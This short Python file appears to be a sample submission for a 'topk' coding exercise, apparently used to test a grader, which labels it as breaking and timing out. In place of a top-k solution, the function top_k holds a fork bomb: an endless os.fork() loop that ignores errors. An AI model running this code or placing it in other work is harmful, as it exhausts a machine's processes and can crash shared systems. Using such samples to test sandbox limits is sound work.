"""forks without end, and so does each child

Kata: topk
Naive: breaks
Verdict: TIMED_OUT
"""

import os


def top_k(events, k):
    while True:
        try:
            os.fork()
        except OSError:
            pass
